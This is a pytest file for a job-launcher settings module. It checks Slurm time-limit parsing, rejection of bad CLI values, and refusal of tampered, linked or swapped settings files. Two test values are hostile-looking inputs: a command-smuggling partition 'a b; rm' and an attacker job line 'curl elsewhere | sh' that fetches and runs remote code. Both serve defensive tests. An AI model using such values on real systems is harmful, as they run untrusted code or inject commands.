"""What starts jobs: each user's own file, every field checked before anything is written."""

import os

import pytest

from fop_core.cli import main
from fop_core.jobs import launcher_settings, queue
from fop_core.jobs.launcher_settings import LauncherSettings, Slurm, seconds
from fop_core.runs.files import DamagedFile
from tests.jobs.conftest import new


@pytest.mark.parametrize(
    ("text", "expected"),
    [("90", 5400), ("2:30", 150), ("1:30:00", 5400), ("1-12", 129600), ("1-12:30", 131400), ("1-0:0:5", 86405)],
)
def test_a_time_limit_means_what_it_means_to_slurm(text, expected):
    assert seconds(text) == expected


@pytest.mark.parametrize("text", ["", "0", "0:00", "an hour", "1:2:3:4", "-5", "1-", "90 ", "٩٠"])
def test_no_time_limit_is_guessed(text):
    with pytest.raises(ValueError, match="expected"):
        seconds(text)


def test_the_command_changes_what_it_names_and_takes_back_what_is_none(folder, capsys):
    assert main(["queue", "set", "--launcher", "slurm", "--partition", "gpu", "--cpus", "4", "--line", "a b"]) == 0
    assert "launcher = slurm" in capsys.readouterr().out
    assert main(["queue", "set", "--time-limit", "2:00:00", "--partition", "none", "--side-by-side"]) == 0
    expected = Slurm(cpus=4, lines=("a b",), time_limit="2:00:00", side_by_side=True)
    assert launcher_settings.read(folder) == LauncherSettings(launcher="slurm", slurm=expected)
    assert main(["queue", "set", "--line", "none", "--in-turn", "--launcher", "local"]) == 0
    assert launcher_settings.read(folder).slurm == Slurm(cpus=4, time_limit="2:00:00")


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["--launcher", "pbs"], "launcher is 'pbs'"),
        (["--partition", "a b; rm"], "partition is 'a b; rm'"),
        (["--partition=-x"], "partition is '-x'"),
        (["--gpus", "many"], "a number is expected"),
        (["--cpus", "x"], "give a whole number"),
        (["--cpus", "0"], "cpus is 0"),
        (["--memory", "8 gigs"], "a number and a unit"),
        (["--time-limit", "1:00"], "no longer than the 120 s"),
        (["--line", "a\nb"], "one line of visible characters"),
    ],
)
def test_a_wrong_value_is_named_and_nothing_is_written(folder, capsys, arguments, words):
    assert main(["queue", "set", "--cpu-slots", "3", *arguments]) == 2
    assert words in capsys.readouterr().err
    assert not (folder / ".queue").exists()


def test_where_the_slots_are_wrong_the_launcher_stays_as_it_was(folder, capsys):
    assert main(["queue", "set", "--cpu-slots", "9999", "--launcher", "slurm"]) == 2
    assert not (folder / ".queue").exists()


def test_settings_that_others_could_have_written_start_nothing(folder, monkeypatch):
    monkeypatch.setattr(queue, "_start", lambda folder: None)
    launcher_settings.choose(folder, "slurm")
    path = launcher_settings.path(folder)
    run = new(folder)
    queue.submit(run)
    path.chmod(0o666)
    with pytest.raises(DamagedFile, match="can be written by others"):
        launcher_settings.read(folder)
    assert "settings that can be read" in queue.waits_for(run)
    path.chmod(0o600)
    os.link(path, folder / "other")
    with pytest.raises(DamagedFile, match="has other names, where a regular file of one name"):
        launcher_settings.read(folder)


def test_what_is_read_is_the_file_that_was_looked_at(folder, monkeypatch):
    """Whoever may write in the folder of the queue can replace our file between two looks at it."""
    launcher_settings.choose(folder, "slurm", partition="ours")
    path = launcher_settings.path(folder)
    theirs = LauncherSettings(launcher="slurm", slurm=Slurm(lines=("curl elsewhere | sh",)))
    (folder / "theirs").write_text(theirs.model_dump_json())
    looks, looked_at = {name: getattr(os, name) for name in ("lstat", "fstat")}, {"number": path.stat().st_ino}

    def replaced(name, *arguments, **more):
        status = looks[name](*arguments, **more)
        if status.st_ino == looked_at.get("number") and looked_at.clear() is None:
            os.replace(folder / "theirs", path)
        return status

    for name in looks:
        monkeypatch.setattr(os, name, lambda *arguments, name=name, **more: replaced(name, *arguments, **more))
    assert launcher_settings.read(folder).slurm == Slurm(partition="ours")
    assert not (folder / "theirs").exists()


def test_a_link_to_settings_is_none(folder):
    launcher_settings.choose(folder, "slurm")
    path = launcher_settings.path(folder)
    os.symlink(path.rename(folder / "elsewhere"), path)
    with pytest.raises(DamagedFile, match="a link, where a file is expected"):
        launcher_settings.read(folder)


def test_without_settings_this_machine_starts_jobs(folder):
    assert launcher_settings.read(folder) == LauncherSettings()
